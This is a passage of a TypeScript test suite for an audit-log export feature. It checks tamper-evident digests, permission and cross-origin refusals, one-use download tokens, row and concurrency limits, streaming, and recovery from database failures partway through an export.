    await testDb.handle.db.execute(
      sql`update audit_logs set description = 'nothing to see' where id = ${target}::uuid`,
    );
    try {
      const tampered = check(await exportWithDigests("ndjson"));
      expect(tampered.status).not.toBe(0);
      expect(tampered.stderr).toContain(
        `Not as sealed (changed since, or not in its block): ${target.replace(/-/g, "")}`,
      );
    } finally {
      await testDb.handle.db
        .update(auditLogs)
        .set({ description: before!.description })
        .where(eq(auditLogs.id, target));
    }
  }, 120_000);

  it("reports the entries not sealed yet instead of passing them", async () => {
    await sealEverything();
    const [late] = await store(seeded.orgs.acme, [
      event(7000, Date.now(), { category: "service", occurredAt: new Date(Date.now() - 60_000).toISOString() }),
    ]);
    const csv = await exportWithDigests("csv");
    const parsed = lines(csv.digests);
    expect(parsed.find((l) => l.type === "entry" && l.id === late)).toMatchObject({ block: null });
    expect(parsed.at(-1)).toMatchObject({ type: "summary", unsealed: 1, sealed: csv.count - 1 });
    const result = check(csv);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain(`1 exported entries are not sealed yet (export again in a minute): ${late}`);
    await sealEverything();
  }, 120_000);

  it("gives the digests' link to no one else", async () => {
    const counted = await as(MANAGER, () => prepareExportCount("acme", SEARCH));
    const started = await as(MANAGER, () =>
      startExport("acme", {
        search: SEARCH,
        format: "csv",
        timeZone: "UTC",
        snapshotAt: counted.data!.snapshotAt,
        digests: true,
      }),
    );
    expect((await download("admin@acme.test", started.data!.digests!.url)).status).toBe(404);
    const plain = await as(MANAGER, () => startExport("acme", { search: SEARCH, format: "csv", timeZone: "UTC" }));
    expect(plain.data?.digests).toBeNull();
  });
});

describe("who may export", () => {
  it("refuses a member without audit.export, with the contract's notice", async () => {
    expect(await as("member@acme.test", () => prepareExportCount("acme", ""))).toEqual({ error: NO_PERMISSION_TEXT });
    expect(
      await as("member@acme.test", () => startExport("acme", { search: "", format: "csv", timeZone: "UTC" })),
    ).toEqual({
      error: NO_PERMISSION_TEXT,
    });
  });

  it("refuses another organization's user and a signed-out visitor", async () => {
    expect(await as("auditor@globex.test", () => prepareExportCount("acme", ""))).toEqual({
      error: "Organization not found.",
    });
    expect(
      await as("auditor@globex.test", () => startExport("acme", { search: "", format: "csv", timeZone: "UTC" })),
    ).toEqual({
      error: "Organization not found.",
    });
    expect((await as(null, () => startExport("acme", { search: "", format: "csv", timeZone: "UTC" }))).error).toMatch(
      /Sign in again/,
    );
  });

  it("refuses an action posted from another site", async () => {
    requestHeaders.current = new Headers({ ...SITE, origin: "https://evil.test" });
    try {
      await expect(
        as("manager@acme.test", () => startExport("acme", { search: "", format: "csv", timeZone: "UTC" })),
      ).rejects.toBeInstanceOf(CrossOriginActionError);
    } finally {
      requestHeaders.current = new Headers(SITE);
    }
  });

  it("gives a reused token nothing", async () => {
    const { started } = await exportAs("manager@acme.test", "type=infra", "csv");
    const first = await download("manager@acme.test", started.url);
    expect(first.status).toBe(200);
    await first.arrayBuffer();
    const again = await download("manager@acme.test", started.url);
    expect(again.status).toBe(404);
    expect(await again.text()).toMatch(/used already, it expired, or it was made for someone else/);
  });

  it("gives an expired token nothing", async () => {
    const { started } = await exportAs("manager@acme.test", "type=infra", "csv");
    await testDb.handle.db
      .update(exportTokens)
      .set({ expiresAt: new Date(Date.now() - 1000) })
      .where(sql`true`);
    expect((await download("manager@acme.test", started.url)).status).toBe(404);
  });

  it("gives another user's token nothing, and leaves it to its owner", async () => {
    const { started } = await exportAs("manager@acme.test", "type=infra", "csv");
    expect((await download("auditor@globex.test", started.url)).status).toBe(404);
    expect((await download("admin@acme.test", started.url)).status).toBe(404);
    expect((await download(null, started.url)).status).toBe(401);
    const owner = await download("manager@acme.test", started.url);
    expect(owner.status).toBe(200);
    await owner.arrayBuffer();
  });

  it("finds a token by its organization and hash; a token from before 0019 by its hash alone", async () => {
    const { started } = await exportAs("manager@acme.test", "type=infra", "csv");
    const token = started.url.replace("/api/exports/", "");
    // The token ends with its organization's id (docs/scaling.md): one organization's row is read.
    const acmeHex = seeded.orgs.acme.replaceAll("-", "");
    expect(token).toMatch(new RegExp(`^[A-Za-z0-9_-]{43}_${acmeHex}$`));
    const moved = `${token.slice(0, -32)}${seeded.orgs.globex.replaceAll("-", "")}`;
    expect((await download("manager@acme.test", `/api/exports/${moved}`)).status).toBe(404);
    // A link handed out just before the upgrade: its row as the migration found it, 43 characters.
    const legacy = "L".repeat(43);
    const [row] = await testDb.handle.db
      .select()
      .from(exportTokens)
      .where(sql`${exportTokens.tokenHash} = encode(sha256(convert_to(${token}, 'UTF8')), 'hex')`);
    await testDb.handle.db.insert(exportTokens).values({
      ...row!,
      tokenHash: createHash("sha256").update(legacy, "utf8").digest("hex"),
    });
    const old = await download("manager@acme.test", `/api/exports/${legacy}`);
    expect(old.status).toBe(200);
    await old.arrayBuffer();
    const current = await download("manager@acme.test", started.url);
    expect(current.status).toBe(200);
    await current.arrayBuffer();
  });

  it("gives nothing for a made-up token", async () => {
    expect((await download("manager@acme.test", "/api/exports/not-a-token")).status).toBe(404);
    expect((await download("manager@acme.test", `/api/exports/${"A".repeat(43)}`)).status).toBe(404);
  });

  it("stops a download whose permission was revoked after the modal", async () => {
    const kenji = "kenji.sato@acme.test";
    const { started } = await exportAs(kenji, "type=infra", "csv");
    await testDb.handle.db
      .delete(permissionGrants)
      .where(and(eq(permissionGrants.userId, userId(kenji)), eq(permissionGrants.permission, "audit.export")));
    const response = await download(kenji, started.url);
    expect(response.status).toBe(403);
    expect(await response.text()).toBe(NO_PERMISSION_TEXT);
  });
});

describe("limits", () => {
  it("advises smaller time intervals above EXPORT_MAX_ROWS", async () => {
    overrideEnv({ EXPORT_MAX_ROWS: 10 });
    try {
      const counted = await as("manager@acme.test", () => prepareExportCount("acme", ""));
      expect(counted.data?.count).toBe(11);
      expect(counted.data?.blocked.csv).toMatch(/more than 10 records.*Export in smaller time intervals/);
      const started = await as("manager@acme.test", () =>
        startExport("acme", { search: "", format: "csv", timeZone: "UTC" }),
      );
      expect(started.error).toMatch(/Export in smaller time intervals/);
      const small = await as("manager@acme.test", () =>
        startExport("acme", { search: "q=ip:203.0.113.7", format: "csv", timeZone: "UTC" }),
      );
      expect(small.error).toBeUndefined();
    } finally {
      resetEnv();
    }
  });

  it("falls back to UTC for a zone the runtime does not know", async () => {
    const started = await as("manager@acme.test", () =>
      startExport("acme", { search: "q=request_id:req_1", format: "csv", timeZone: "Mars/Olympus_Mons" }),
    );
    const file = readCsvFile(await downloadFile("manager@acme.test", started.data!));
    expect(file.header[1]).toBe("Time (UTC)");
    expect(file.rows[0]![1]).toMatch(/\+00:00$/);
  });

  it("names the file after the organization and the period, in safe ASCII", async () => {
    const { started } = await exportAs(
      "manager@acme.test",
      "period=custom&from=2026-01-01&to=2026-01-31",
      "xlsx",
      "UTC",
    );
    expect(started.fileName).toBe("audit-logs-acme-2026-01-01_2026-01-31.xlsx");
    const response = await download("manager@acme.test", started.url);
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="audit-logs-acme-2026-01-01_2026-01-31.xlsx"; filename*=UTF-8''audit-logs-acme-2026-01-01_2026-01-31.xlsx`,
    );
    expect(response.headers.get("content-type")).toBe(
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    expect(response.headers.get("cache-control")).toBe("no-store, no-transform");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("set-cookie")).toMatch(/^audit-export-[0-9a-f]{16}=started; Path=\//);
    // An empty period still makes a valid file: the header row alone.
    const file = await readXlsxFile(await readBody(response));
    expect(file.rows).toHaveLength(0);
    expect(started.count).toBe(0);
  });
});

describe("streaming", () => {
  it("sends the file in pieces as it is read, with memory bounded by a batch", async () => {
    const { started } = await exportAs("manager@acme.test", "", "csv");
    const response = await as("manager@acme.test", () =>
      downloadExport(new Request(`${ORIGIN}${started.url}`, { headers: SITE }), tokenOf(started.url), {
        batchRows: 50,
      }),
    );
    const reader = response.body!.getReader();
    let pieces = 0;
    for (;;) {
      const { done } = await reader.read();
      if (done) break;
      pieces += 1;
    }
    expect(pieces).toBeGreaterThan(testDb.handle.kind === "pglite" ? 10 : 1);
  });

  it("caps the downloads running at once, refusing the extra one before its token is used", async () => {
    overrideEnv({ EXPORT_MAX_CONCURRENT: 1 });
    try {
      const first = await exportAs("manager@acme.test", "type=auth", "csv");
      const second = await exportAs("manager@acme.test", "type=auth", "csv");
      const running = await download("manager@acme.test", first.started.url);
      expect(running.status).toBe(200);
      const refused = await download("manager@acme.test", second.started.url);
      expect(refused.status).toBe(503);
      expect(refused.headers.get("retry-after")).toBe("30");
      await running.arrayBuffer();
      const retried = await download("manager@acme.test", second.started.url);
      expect(retried.status).toBe(200);
      await retried.arrayBuffer();
    } finally {
      resetEnv();
    }
  });

  it("stops reading and releases the connection when the client goes away", async () => {
    const { started } = await exportAs("manager@acme.test", "", "xlsx");
    const response = await as("manager@acme.test", () =>
      downloadExport(new Request(`${ORIGIN}${started.url}`, { headers: SITE }), tokenOf(started.url), {
        batchRows: 20,
      }),
    );
    const reader = response.body!.getReader();
    await reader.read();
    await reader.read();
    await reader.cancel();
    const trail = await waitFor(async () => {
      const rows = await testDb.handle.db
        .select({ result: auditLogs.result, errorCode: auditLogs.errorCode })
        .from(auditLogs)
        .where(
          and(eq(auditLogs.orgId, seeded.orgs.acme), eq(auditLogs.action, "export"), eq(auditLogs.result, "failed")),
        );
      return rows.some((r) => r.errorCode === "download_cancelled") ? rows : null;
    });
    expect(trail.some((r) => r.errorCode === "download_cancelled")).toBe(true);
    if (testDb.handle.kind === "postgres") {
      const busy = await queryRows<{ n: number }>(
        testDb.handle.db,
        sql`select count(*)::int as n from pg_stat_activity where datname = current_database() and pid <> pg_backend_pid() and (state <> 'idle' or xact_start is not null)`,
      );
      expect(busy[0]!.n).toBe(0);
    }
    // The pool still works.
    expect((await as("manager@acme.test", () => prepareExportCount("acme", "type=auth"))).data?.count).toBeGreaterThan(
      0,
    );
  });
});

async function waitFor<T>(probe: () => Promise<T | null>, ms = 10_000): Promise<T> {
  const until = Date.now() + ms;
  for (;;) {
    const value = await probe();
    if (value !== null) return value;
    if (Date.now() > until) throw new Error("timed out");
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe("a database failure in the middle of the file", () => {
  it("errors the stream instead of ending it, and records the failure", async () => {
    // Enough rows in Globex that the file is still being read when the database fails.
    const globex = seeded.orgs.globex;
    await queryRows(
      testDb.handle.db,
      sql`insert into audit_logs (org_id, occurred_at, received_at, category, action, description, result, params)
          select ${globex}::uuid, now() - (g || ' seconds')::interval, now() - interval '1 minute', 'service', 'deploy',
                 repeat('x', 400) || g, 'done', jsonb_build_object('g', g)
          from generate_series(1, 30000) as g`,
    );
    // The failure is reported on the server's console: asserted here, not printed into the run.
    const printed = vi.spyOn(console, "error").mockImplementation(() => {});
    const formats = ["csv", "xlsx", "ndjson"] as const;
    for (const format of formats) {
      const counted = await as("auditor@globex.test", () => prepareExportCount("globex", ""));
      const started = await as("auditor@globex.test", () =>
        startExport("globex", { search: "", format, timeZone: "UTC", snapshotAt: counted.data!.snapshotAt }),
      );
      const response = await as("auditor@globex.test", () =>
        downloadExport(new Request(`${ORIGIN}${started.data!.url}`, { headers: SITE }), tokenOf(started.data!.url), {
          batchRows: 200,
        }),
      );
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      await reader.read();
      await breakTheDatabase();
      let failure: unknown = null;
      let bytes = 0;
      try {
        for (;;) {
          const { done, value } = await reader.read();
          if (done) break;
          bytes += value.length;
        }
      } catch (error) {
        failure = error;
      } finally {
        await repairTheDatabase();
      }
      expect([format, failure]).not.toEqual([format, null]);
      expect(bytes).toBeGreaterThanOrEqual(0);
      const entries = await waitFor(async () => {
        const rows = await testDb.handle.db
          .select({ errorCode: auditLogs.errorCode, params: auditLogs.params })
          .from(auditLogs)
          .where(and(eq(auditLogs.orgId, globex), eq(auditLogs.action, "export"), eq(auditLogs.result, "failed")));
        // One failed entry per format so far.
        return rows.length > formats.indexOf(format) ? rows : null;
      });
      expect(entries.at(-1)?.errorCode).toBe("database_error");
    }
    expect(printed).toHaveBeenCalledWith("export failed", expect.any(Error));
    printed.mockRestore();
  });
});

/*
 * The failure itself: on the server the export's backend is terminated (as a crash or a failover
 * would), found by the start of its statement (pg_stat_activity keeps only the first 1 kB);
 * PGlite has one connection, so the table is renamed away between two pages instead.
 */
async function breakTheDatabase(): Promise<void> {
  if (testDb.handle.kind === "postgres") {
    await waitFor(async () => {
      const rows = await queryRows<{ pid: number }>(
        testDb.handle.db,
        sql`select pid from pg_stat_activity where datname = current_database() and pid <> pg_backend_pid() and (query like 'copy (select "audit_logs"."id"::text%' or query like 'copy (select json_build_object(%' or query like 'select "audit_logs"."id"::text%')`,
      );
      if (rows.length === 0) return null;
      for (const { pid } of rows) await queryRows(testDb.handle.db, sql`select pg_terminate_backend(${pid}::int)`);
      return true;
    });
  } else {
    await testDb.handle.client.exec("alter table audit_logs rename to audit_logs_gone");
  }
}

async function repairTheDatabase(): Promise<void> {
  if (testDb.handle.kind === "pglite")
    await testDb.handle.client.exec("alter table audit_logs_gone rename to audit_logs");
}

// Only a server database has backends to end.
describe.runIf(serverTestUrl())("a connection lost before the file starts", () => {
  it("answers 503 with Retry-After, not 500, and leaves the link unused for a second try", async () => {
    const { started } = await exportAs("manager@acme.test", "type=auth", "csv");
    const other = postgres(testDb.url!, { max: 2, onnotice: () => {} });
    try {
      // The token's single-use UPDATE waits behind this lock; its backend is then ended under it.
      const holder = await other.reserve();
      await holder`begin`;
      await holder`lock table export_tokens in access exclusive mode`;
      const pending = download("manager@acme.test", started.url);
      const waiting = await waitFor(async () => {
        const rows = await other<{ pid: number }[]>`
          select pid from pg_stat_activity
          where datname = current_database() and wait_event_type = 'Lock' and query like 'update "export_tokens"%'`;
        return rows.length > 0 ? rows.map((r) => r.pid) : null;
      });
      await other`select pg_terminate_backend(pid) from unnest(${waiting}::int[]) as pid`;
      const response = await pending;
      await holder`rollback`;
      holder.release();
      expect(response.status).toBe(503);
      expect(response.headers.get("retry-after")).toBe("5");
      expect(await response.text()).toBe(
        "The connection to the database was lost before the file started. Export again in a moment.",
      );
    } finally {
      await other.end();
    }
    // The ended UPDATE was rolled back: the same link still gives the whole file.
    const file = (await downloadFile("manager@acme.test", started)).toString("utf8");
    expect(file.trimEnd().split("\n").length).toBeGreaterThan(1);
  });
});
